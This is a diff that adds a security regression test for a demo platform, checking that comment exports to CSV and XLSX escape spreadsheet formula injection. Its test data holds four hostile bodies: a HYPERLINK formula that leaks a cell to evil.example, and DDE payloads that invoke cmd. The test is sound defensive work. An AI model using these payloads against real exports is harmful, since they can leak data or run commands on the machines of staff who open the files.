@@ -5,9 +5,20 @@
  * introspection and kept its data world-readable. Everything goes over HTTP to real servers.
  */
 import http from 'node:http';
+import { parse as parseCsv } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startPlatform, type Platform } from '../support/platform';
-import { demoAccount, signInAs, stopPlatform } from './support';
+import {
+  demoAccount,
+  ok,
+  openPolicy,
+  signInAs,
+  staffOrganizationId,
+  stopPlatform,
+  submitComment,
+  type Client,
+} from './support';
 
 interface HttpAnswer {
   status: number;
@@ -221,6 +232,53 @@ describe('the main demo platform', () => {
         const answer = await formPost(platform.baseUrl, '/language', { locale: 'en', redirectTo: target });
         expectOnThisSite(answer, JSON.stringify(target));
       }
+    });
+  });
+
+  describe('finding 5: the comment exports escape formulas', () => {
+    // What a participant can type (the API trims leading whitespace, so a tab or CR never starts a stored body; the
+    // unit test services/api/src/exports/formulas.unit.test.ts covers those two).
+    const BODIES = [
+      '=HYPERLINK("https://evil.example/?x="&A1;"Xem dự thảo đầy đủ")',
+      "+1+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C notepad'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+    ];
+    let staff: Client;
+    let policyId: string;
+
+    beforeAll(async () => {
+      staff = await signInAs(platform, 'staff');
+      policyId = (await openPolicy(staff, await staffOrganizationId(staff))).id;
+      const participant = await signInAs(platform, 'participant');
+      for (const body of BODIES) ok(await submitComment(participant, { policyId, body, stance: 'OPPOSE' }));
+    });
+
+    async function download(file: string): Promise<Buffer> {
+      const res = await fetch(`${platform.baseUrl}/export/policies/${policyId}/rounds/1/${file}`, {
+        headers: { authorization: `Bearer ${staff.token}` },
+      });
+      expect(res.status).toBe(200);
+      return Buffer.from(await res.arrayBuffer());
+    }
+
+    it('writes each body that starts with =, +, - or @ into comments.csv behind an apostrophe', async () => {
+      const rows = (
+        parseCsv(await download('comments.csv'), { bom: true, relax_column_count: true }) as string[][]
+      ).slice(2);
+      expect(rows.map((r) => r[11])).toEqual(BODIES.map((body) => `'${body}`));
+    });
+
+    it('writes them into comments.xlsx unchanged, as string cells, never as formulas', async () => {
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load((await download('comments.xlsx')) as unknown as ArrayBuffer);
+      const sheet = workbook.worksheets[0]!;
+      BODIES.forEach((body, i) => {
+        const cell = sheet.getRow(i + 3).getCell(12);
+        expect(cell.type, body).toBe(ExcelJS.ValueType.String);
+        expect(cell.formula, body).toBeUndefined();
+        expect(cell.value).toBe(body);
+      });
     });
   });
 });
